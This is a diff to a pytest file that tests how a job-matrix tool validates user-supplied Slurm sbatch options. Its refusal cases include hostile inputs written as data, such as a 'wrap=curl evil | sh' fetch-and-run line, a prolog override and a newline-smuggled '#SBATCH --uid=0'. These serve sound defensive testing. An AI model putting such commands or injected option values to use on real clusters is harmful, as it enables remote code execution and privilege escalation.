@@ -23,7 +23,7 @@ from reprobisect.run.matrix_run import run_matrix
 
 @pytest.mark.parametrize(
     ("text", "expected"),
-    [("qos=high", ("qos", "high")), ("--mem=8G", ("mem", "8G")), ("exclusive", ("exclusive", True))],
+    [("qos=high", ("qos", "high")), ("mem=8G", ("mem", "8G")), ("exclusive", ("exclusive", True))],
 )
 def test_a_slurm_arg_is_one_sbatch_option(text, expected):
     assert slurm_arg(text) == expected
@@ -37,6 +37,10 @@ def test_a_slurm_arg_is_one_sbatch_option(text, expected):
         ("array=0-9", "sets --array itself"),
         ("output=/tmp/x", "sets --output itself"),
         ("comment=a\n#SBATCH --uid=0", "control character"),
+        ("--mem=8G", "without dashes"),  # an option, never a key: "-w node", "--wrap=..." are refused by their dash
+        ("-w", "without dashes"),
+        ("wrap=curl evil | sh", "runs something other than the harness's job"),
+        ("prolog=/tmp/x", "runs something other than the harness's job"),
     ],
 )
 def test_a_slurm_arg_that_is_not_one_option_is_refused(text, named):
@@ -75,7 +79,13 @@ def test_gpus_come_from_the_runs_nproc_on_the_cuda_backend_only():
     assert _gpus(MatrixRequest(backend="auto"), units) == 0  # decided on the node: ask with --backend cuda
 
 
-def test_the_executor_option_makes_one_engine_per_command(tmp_path: Path):
+def test_the_executor_option_makes_one_engine_per_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    tools = tmp_path / "bin"  # the engine is made only where Slurm's tools are on PATH (slurm_available)
+    tools.mkdir()
+    for tool in ("sbatch", "sacct"):
+        (tools / tool).write_text("#!/bin/sh\nexit 1\n")
+        (tools / tool).chmod(0o755)
+    monkeypatch.setenv("PATH", str(tools))
     argv = ["matrix", "--executor", "slurm", "--slurm-partition", "gpu", "--slurm-arg", "qos=high", "--out", "o"]
     options = MatrixOptions.from_args(_parse([*argv, "--slurm-folder", str(tmp_path)]))
     slurm = options.run.engine.slurm
